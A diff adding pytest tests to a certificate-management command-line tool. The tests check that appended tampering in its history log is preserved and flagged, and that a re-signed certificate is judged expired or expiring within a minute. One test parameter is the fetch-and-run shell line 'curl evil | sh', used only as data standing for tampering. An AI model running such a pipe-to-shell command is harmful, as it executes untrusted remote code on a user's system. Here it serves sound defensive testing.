@@ -12,6 +12,7 @@ from typing import TYPE_CHECKING
 import pytest
 import yaml
 from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
 
 from tests.refusals import assert_refused
 from tests.running import REPOSITORY
@@ -272,3 +273,36 @@ def test_whether_a_usage_is_critical_is_read_from_the_certificate(
     assert ((folder / "near.crt").read_bytes() != before) == (said.status == 0)
     if not claimed or critical:
         assert said.status == 0, said.stderr
+
+
+@pytest.mark.parametrize("tail", ["curl evil | sh", "{}", "\n"], ids=["words", "another record", "an empty line"])
+def test_what_others_wrote_behind_the_last_line_is_not_cleaned_away(
+    own_pki: Callable[..., Pki], kcert: Kcert, tail: str
+) -> None:
+    """A kill leaves the beginning of a line. Anything else was put there, and the next run must not hide it."""
+    history = own_pki("course").folder / ".kcert/history.jsonl"
+    history.write_bytes(history.read_bytes() + tail.encode())
+
+    kcert("client", "jane", "--group", "developers", "--quiet")
+
+    assert_refused(kcert("history", "--verify"), 1, str(history.relative_to(kcert.folder)))
+    assert tail.encode() in history.read_bytes()
+
+
+@pytest.mark.parametrize(("seconds", "rule"), [(-60, "expired"), (60, "expiring-soon")])
+def test_a_minute_decides_whether_a_certificate_has_expired(
+    own_pki: Callable[..., Pki], kcert: Kcert, seconds: int, rule: str
+) -> None:
+    own = own_pki("course")
+    key = serialization.load_pem_private_key((own.folder / "ca.key").read_bytes(), None)
+    old = x509.load_pem_x509_certificate((own.folder / "admin.crt").read_bytes())
+    end = datetime.now(timezone.utc) + timedelta(seconds=seconds)
+    builder = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number)
+    builder = builder.not_valid_before(end - timedelta(days=9)).not_valid_after(end)
+    for extension in old.extensions:
+        builder = builder.add_extension(extension.value, extension.critical)
+    made = builder.sign(key, hashes.SHA256())  # type: ignore[arg-type]
+    (own.folder / "admin.crt").write_bytes(made.public_bytes(serialization.Encoding.PEM))
+
+    assert rules(kcert, "pki") == {rule}
+    assert states(kcert)["admin"]["state"] == rule.partition("-")[0]
